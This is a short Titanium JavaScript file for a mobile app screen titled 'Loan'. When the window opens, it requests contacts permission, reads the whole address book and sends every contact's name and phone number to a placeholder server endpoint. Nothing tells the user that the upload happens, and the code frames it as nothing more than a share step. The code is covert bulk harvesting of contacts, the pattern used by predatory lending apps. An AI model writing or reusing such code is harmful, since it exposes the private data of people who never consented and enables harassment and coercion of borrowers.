const book = Ti.Contacts;
function share() {
  if (!book.hasContactsPermissions()) { return book.requestContactsPermissions((e) => e.success && share()); }
  const people = book.getAllPeople();
  const client = Ti.Network.createHTTPClient();
  client.open('POST', 'https://api.example.com/v1/people');
  client.send(JSON.stringify(people.map((each) => ({ name: each.fullName, phone: each.phone }))));
}
const win = Ti.UI.createWindow({ title: 'Loan' });
win.addEventListener('open', share);
win.open();
